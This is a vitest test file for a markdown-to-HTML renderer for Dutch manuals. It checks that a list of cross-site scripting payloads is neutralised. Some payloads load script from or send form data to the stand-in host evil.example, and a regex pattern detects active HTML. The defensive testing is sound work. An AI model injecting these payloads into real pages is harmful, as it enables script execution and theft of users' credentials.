import { describe, expect, test } from 'vitest'
import { readMarkdown } from '../../src/desk/manuals/markdown.ts'

const OURS = { address: '/handleidingen/beelden/nl/lijst.webp?v=1', width: 1200, height: 600 }
const read = (markdown: string) =>
  readMarkdown(markdown, (name) => (name === 'lijst.webp' ? OURS : undefined))

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x](lijst.webp" onload="alert(1))',
  '[klik](javascript:alert(1))',
  '[klik](JaVaScRiPt:alert(1))',
  '[klik](&#106;avascript:alert(1))',
  '[klik](java\tscript:alert(1))',
  '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[klik](vbscript:msgbox(1))',
  '[klik](//evil.example)',
  '<a href="javascript:alert(1)" onclick="alert(1)">klik</a>',
  '<svg onload=alert(1)><animate onbegin=alert(1) /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src=x>',
  '<form action=//evil.example><input name=wachtwoord><button formaction=javascript:alert(1)>ok</button></form>',
  '<style>body{background:url(//evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))" class="toasts" id="inhoud">x</p>',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<details open ontoggle=alert(1)>x</details>',
  '# <img src=x onerror=alert(1)>',
  '## `<script>alert(1)</script>`',
  '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '<p data-island="tour" data-props="{}">x</p>',
]

/** HTML that is active, or that loads or leads elsewhere. */
const ALIVE =
  /<(script|iframe|object|embed|svg|math|form|input|button|style|base|meta|link|template|noscript|details)\b|\s(on\w+|style|srcdoc|formaction|class|data-[\w-]+)\s*=(?=[^<]*>)|(href|src)="(?!https?:|mailto:|#|\/handleidingen\/|\/api\/)[^"]*"|evil\.example[^"<]*"/i

describe('a manual on the page', () => {
  test.each(HOSTILE)('%s does nothing', async (markdown) => {
    const { html } = await read(`Voor.\n\n${markdown}\n\nNa.`)
    expect(html).not.toMatch(ALIVE)
    expect(html).toContain('Voor.')
  })

  test('text, lists, tables, code, links and pictures of ours are drawn', async () => {
    const { html } = await read(
      '## Kop\n\n**Vet** en `toets`.\n\n1. Een\n2. Twee\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n[ons](/api/docs) [buiten](https://example.org)\n\n![De lijst](lijst.webp)',
    )
    expect(html).toContain('<h2 id="deel-kop">Kop</h2>')
    expect(html).toContain('<strong>Vet</strong> en <code>toets</code>')
    expect(html).toContain('<li>Twee</li>')
    expect(html).toContain('<th scope="col">A</th>')
    expect(html).toContain('<a href="/api/docs">ons</a>')
    expect(html).toContain('<a href="https://example.org" rel="noreferrer">buiten</a>')
    expect(html).toContain(
      `<img src="${OURS.address}" alt="De lijst" width="1200" height="600" loading="lazy" />`,
    )
  })

  test('sections have anchors that never clash, and text without markup', async () => {
    const { sections } = await read(
      'Vooraf & *kort*.\n\n## Een dag\n\nA.\n\n# Een dag!\n\nB < C.\n\n### Één  dág\n\nD.',
    )
    expect(sections).toEqual([
      { anchor: '', title: '', level: 0, text: 'Vooraf & kort.' },
      { anchor: 'deel-een-dag', title: 'Een dag', level: 2, text: 'A.' },
      { anchor: 'deel-een-dag-2', title: 'Een dag!', level: 2, text: 'B < C.' },
      { anchor: 'deel-een-dag-3', title: 'Één dág', level: 3, text: 'D.' },
    ])
  })
})
